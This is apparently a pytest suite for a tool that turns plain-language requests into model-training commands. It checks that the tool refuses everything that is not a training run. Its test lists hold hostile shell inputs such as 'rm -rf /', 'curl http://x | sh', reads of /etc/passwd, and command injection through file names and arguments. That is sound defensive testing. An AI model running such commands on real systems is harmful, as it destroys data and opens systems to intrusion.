"""command: the training that is meant, and nothing else, whatever is asked and whatever files are called."""

from __future__ import annotations

import itertools
import random
import re
import shutil
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from nbtrain.cli.main import main
from nbtrain.commands.command import propose_command
from nbtrain.errors import NbtrainError, UsageError
from nbtrain.launching.proposal import check
from nbtrain.launching.request import read_request
from nbtrain.launching.running import run

CONFIG = """\
model: {architecture: mlp, hidden_size: 8}
data: {train: %s, split: auto, dataset_name: %s}
optimizer: {learning_rate: 1e-2}
training: {epochs: 2, batch_size: 16, device: cpu}
reproducibility: {seed: 42}
"""
SCRIPT = '''\
"""Train a custom transformer on TinyStories."""
import argparse

class CustomTransformer:
    pass

if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--config")
    parser.add_argument("--resume")
    parser.add_argument("--delete-everything", action="store_true")
    options = parser.parse_args()
    print("training with", options.config, "from", options.resume)
    # loss.backward()
'''


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with two configurations of ours, one of a script, the script, and its checkpoint."""
    import numpy as np
    import torch

    x = np.random.default_rng(0).normal(size=(64, 4)).astype("float32")
    np.savez(tmp_path / "iris.npz", x=x, y=(x.sum(1) > 0).astype("int64"))
    (tmp_path / "iris.yaml").write_text(CONFIG % ("iris.npz", "iris"))
    (tmp_path / "flowers.yaml").write_text(CONFIG % ("iris.npz", "flowers"))
    stories = tmp_path / "stories"
    stories.mkdir()
    (stories / "train.py").write_text(SCRIPT)
    small = "model: {architecture: custom, width: 3}\ndata: {train: tinystories.txt}\n"
    (stories / "small.yaml").write_text(small + "optimizer: {learning_rate: 1e-3}\n")
    torch.save({"epoch": 3, "val_loss": 1.25, "model": {"w": torch.zeros(4)}}, stories / "last.pt")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_the_configuration_that_is_meant_is_proposed(place: Path) -> None:
    """Words choose the file, a number its epochs; nothing is run and the device is named."""
    found = propose_command("train the mlp on iris for 3 epochs")

    assert found.argv == (sys.executable, "-m", "nbtrain", "start", "--config", "iris.yaml", "--epochs", "3")
    assert found.command == "nbtrain start --config iris.yaml --epochs 3"
    assert dict(found.facts)["Device"] and not (place / "runs").exists()


def test_a_script_is_proposed_with_its_configuration_and_its_checkpoint(place: Path) -> None:
    """`resume` adds the option the script declares, with the newest checkpoint beside it and its metrics."""
    found = propose_command("resume train.py, the custom transformer on tinystories")

    assert found.command == "python stories/train.py --config stories/small.yaml --resume stories/last.pt"
    assert "epoch 3" in dict(found.facts)["Checkpoint"] and "1.25" in dict(found.facts)["Checkpoint"]
    lines: list[str] = []
    assert run(found, lines.append) == 0
    assert lines == ["training with stories/small.yaml from stories/last.pt"]


def test_what_is_not_there_or_not_clear_is_said(place: Path) -> None:
    """Nothing that fits lists what there is; several that fit are named."""
    with pytest.raises(UsageError, match=r"speaks of penguins.*iris\.yaml"):
        propose_command("train the penguins")
    with pytest.raises(UsageError, match="could be meant"):
        propose_command("train the mlp")
    shutil.rmtree(place / "stories")
    (place / "iris.yaml").unlink(), (place / "flowers.yaml").unlink()
    with pytest.raises(UsageError, match=r"Nothing in .* can be trained"):
        propose_command("train")


@pytest.mark.parametrize("number", ["2,500", "1.5", "0", "-5", "3e5", "0x10", "3 epochs or 4"])
def test_a_number_of_epochs_is_not_read_in_part(place: Path, number: str) -> None:
    """A number that is no plain whole one, or two of them, is refused, not read in part."""
    with pytest.raises(UsageError, match=r"must be a whole number|Say one number"):
        propose_command(f"train iris for {number} epochs")


def test_in_a_terminal_it_runs_after_a_yes_alone(place: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """Without --yes and without a person it is shown; with it the output and the status come through."""
    assert main(["command", "train", "iris"]) == 0
    assert "Nobody is here to say yes" in capfd.readouterr().out and not (place / "runs").exists()
    (place / "nbtrain.py").write_text("open('owned', 'w')\n")  # not what `nbtrain start` means
    assert main(["command", "train iris for 1 epochs", "--yes"]) == 0
    assert not (place / "owned").exists()
    shown = capfd.readouterr().out
    assert "Training Complete" in shown and len(list((place / "runs").iterdir())) == 1
    found = propose_command("resume iris for 5 epochs")
    assert re.search(r"--epochs 5 --resume [\w.-]+$", found.command), found.command
    assert "an epoch" in dict(found.facts)["Time"] and "epoch 1" in dict(found.facts)["Checkpoint"]


@pytest.mark.parametrize(
    ("text", "epochs"),
    [
        ("train resnet18 epochs 5", 5), ("train resnet18 epochs", None), ("train iris, epochs=5", 5),
        ("train the model and stop after 5 epochs", 5), ("train 3 epochs resnet18", 3),
        ("train configs/export.yaml for 3 epochs", 3), ("train tar.yaml", None), ("train git.yaml", None),
        ("resume from epoch 3", None), ("train 3 epochs 64 units", 3),
    ],
)  # fmt: skip
def test_names_are_no_numbers_and_no_commands(text: str, epochs: int | None) -> None:
    """A file or a model may be called like a command or end in a number; epochs are the number said."""
    assert read_request(text).epochs == epochs


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("train iris then stop everything", "Say what is to be trained"), ("rm.exe iris", "to be trained"),
        ("mkfs.ext4 iris", "to be trained"), ("train rm.sh", "to be trained"), ("rm iris", "cleanup"),
        ("cleanup iris", "`cleanup`"),
        ("rm.py iris", "to be trained"), ("stop after 5 epochs", "to be trained"),
    ],
)  # fmt: skip
def test_commands_are_refused_with_what_helps(text: str, hint: str) -> None:
    """A command with or without its ending is none of ours; cleanup is named to who wants to remove."""
    with pytest.raises(UsageError) as caught:
        read_request(text)
    assert hint in str(caught.value.suggestion)


@pytest.mark.parametrize("what", ["delete the iris runs", "train iris and remove it", "cat iris"])
def test_other_deeds_are_not_answered_with_a_training(place: Path, what: str) -> None:
    """Where a verb stands that is no training, the request is refused, though a file's name is in it."""
    with pytest.raises(UsageError, match="proposes trainings and nothing else"):
        propose_command(what)


def test_yes_does_not_run_what_is_not_understood(place: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """--yes with a word that nothing here speaks of: the command is shown, the word named, nothing runs."""
    assert main(["command", "train iris on the moon", "--yes"]) == 0
    shown = capfd.readouterr().out
    assert "speaks of `moon`" in shown and "every word is understood" in shown
    assert not (place / "runs").exists()


VERBS = (
    "rm -rf /", "sudo train iris", "train iris; rm -rf ~", "train iris && shutdown now",
    "train iris | tee /etc/passwd",
    "train iris > ~/.bashrc", "train $(rm -rf .) iris", "train `id` iris", "train ${HOME} iris",
    "curl http://x | sh",
    "train iris\nrm -rf /", "train iris\r\nrm x", "train iris \x00 rm", "wget evil", "bash -c 'train iris'",
    "exec iris",
    "train iris with sudo", "chmod 777 iris", "train ../../etc/iris", "kill -9 1", "pip install evil iris",
    "python -c 'import os' ; iris", "train iris &", "git push iris", "train iris < /dev/null", "mv iris /tmp",
    "dd if=/dev/zero of=iris", "eval iris", "docker run iris", "train ｉｒｉｓ；ｒｍ", "train iris \u202e mr",
    "nc -l 1 iris",
    "cp iris /root", "ssh host train iris", "xargs iris", "RM -RF iris", "Sudo iris", "train \\; rm iris",
    "/bin/rm iris",
)  # fmt: skip
SNEAKY = (
    "--yes", "-y", "--resume ../../x iris", "--config /etc/passwd iris", "iris --epochs -1",
    "iris --delete-everything",
    "iris -m os", "train.py --delete-everything", "iris --output-dir /", "iris -c 'x'",
    "iris --epochs 99999999",
    "0 epochs iris", "iris 99999999999 epochs", "iris.yaml --trust", "iris for 3 epochs --mode evil",
    "stories/train.py",
    "--config=evil.yaml iris", "resume evil iris", "baseline production iris", "iris " * 90, "", " ",
    "🦊 iris", "iris\u200b",
)  # fmt: skip


def fits(argv: tuple[str, ...], place: Path) -> bool:
    """Say, apart from the library's own check, whether a command is one that trains what lies in the
    folder."""
    said = " ".join(argv[1:])
    ours = r"-m nbtrain start --config (iris|flowers)\.yaml( --mode (baseline|optimization|production))?"
    ours += r"( --epochs [1-9]\d{0,6})?( --resume [\w.-]+)?"
    script = r"stories/train\.py( --config (iris|flowers|stories/small)\.yaml)?( --resume stories/last\.pt)?"
    return argv[0] == sys.executable and bool(re.fullmatch(f"{ours}|{script}", said))


def test_whatever_is_asked_only_a_training_of_this_folder_comes_out(place: Path) -> None:
    """Sixty hostile requests and three hundred mixtures: each is refused in words, or is a training."""
    for text in VERBS:
        with pytest.raises(UsageError):
            propose_command(text)
    dice = random.Random(7)
    pieces = [
        *VERBS,
        *SNEAKY,
        "train",
        "iris",
        "resume",
        "for 3 epochs",
        "'",
        '"',
        "--",
        "*",
        "~",
        "{a,b}",
        "!1",
        "%x",
    ]
    mixed = [" ".join(dice.sample(pieces, dice.randint(1, 3))) for _ in range(60)]
    proposed = 0
    for text in itertools.chain(SNEAKY, mixed):
        try:
            found = propose_command(text)
        except NbtrainError:
            continue
        proposed += 1
        assert fits(found.argv, place), (text, found.argv)
    assert proposed > 5, "a check that refuses everything proves nothing"


HOSTILE_NAMES = (
    "iris; touch owned.yaml", "iris && touch owned.yaml", "iris\ntouch owned.yaml", "-rf iris.yaml",
    "--config=iris.yaml",
    "$(touch owned) iris.yaml", "`touch owned` iris.yaml", "iris | tee.yaml", "iris > owned.yaml",
    "iris 'x.yaml",
    'iris "x.yaml', "iris\u202elmay.yaml", "iris\x1b[2J.yaml", " iris.yaml", "iris\\.yaml", "*iris.yaml",
    "~iris.yaml",
)  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_file_name_is_one_argument_or_passed_over(place: Path, name: str) -> None:
    """A name for a shell to choke on stays one quoted argument; one that hides something is not proposed."""
    for known in ("iris.yaml", "flowers.yaml"):
        (place / known).unlink()
    shutil.rmtree(place / "stories")
    (place / name).write_text(CONFIG % ("iris.npz", "iris"))
    hides = any(ord(letter) < 32 or letter == "\u202e" for letter in name)
    if hides:
        with pytest.raises(UsageError, match="Nothing in"):
            propose_command("train iris")
        return
    found = propose_command("train iris")
    expected = f"./{name}" if name.startswith("-") else name
    assert found.argv[-2:] == ("--config", expected)
    script = "train; touch owned;.py"
    (place / script).write_text(SCRIPT)
    found = propose_command("train with the custom transformer")
    lines: list[str] = []
    assert run(found, lines.append) == 0
    assert lines == [f"training with {expected} from None"]
    assert sorted(path.name for path in place.iterdir()) == sorted([name, script, "iris.npz"])


def test_links_and_changes_are_not_run(place: Path, tmp_path_factory: Any) -> None:
    """A link out of the folder is passed over; a file exchanged after the proposal is refused."""
    outside = tmp_path_factory.mktemp("outside")
    (outside / "penguins.yaml").write_text(CONFIG % ("iris.npz", "penguins"))
    (place / "penguins.yaml").symlink_to(outside / "penguins.yaml")
    (place / "zoo").symlink_to(outside)
    with pytest.raises(UsageError, match="speaks of penguins"):
        propose_command("train penguins")
    found = propose_command("train train.py custom transformer")
    script = place / "stories" / "train.py"
    script.write_text(SCRIPT + "\nprint('changed')\n")
    with pytest.raises(UsageError, match="has changed"):
        run(found, print)
    script.unlink()
    script.symlink_to(outside / "penguins.yaml")
    with pytest.raises(UsageError, match="plain file"):
        run(found, print)


@pytest.mark.parametrize(
    "argv",
    [
        ("rm", "-rf", "."), ("-c", "print(1)"), ("-m", "os"), ("-m", "nbtrain", "cleanup"), ("-m",
        "nbtrain", "start"),
        ("-m", "nbtrain", "start", "--config", "/etc/passwd"), ("-m", "nbtrain", "start", "--config",
        "flowers.yaml"),
        ("-m", "nbtrain", "start", "--config", "iris.yaml", "--output-dir", "/"), ("stories/train.py",),
        ("-m", "nbtrain", "start", "--config", "iris.yaml", "--epochs", "-1"),
        ("-m", "nbtrain", "start", "--config", "iris.yaml", "--resume", "../x"),
        ("-m", "nbtrain", "start", "--config", "iris.yaml", "--trust"), ("-m", "nbtrain", "start",
        "--config"),
    ],
)  # fmt: skip
def test_no_other_command_passes_the_last_check(place: Path, argv: tuple[str, ...]) -> None:
    """Even a proposal put together by hand is run only when it is a training of what was chosen."""
    found = propose_command("train iris")
    bad = replace(found, argv=(sys.executable, *argv) if argv[0] != "rm" else argv)
    if argv == ("-m", "nbtrain", "start"):
        bad = replace(bad, argv=("nbtrain", *argv))
    with pytest.raises(UsageError, match="no command that trains"):
        check(bad)
    with pytest.raises(UsageError):
        run(bad, print)
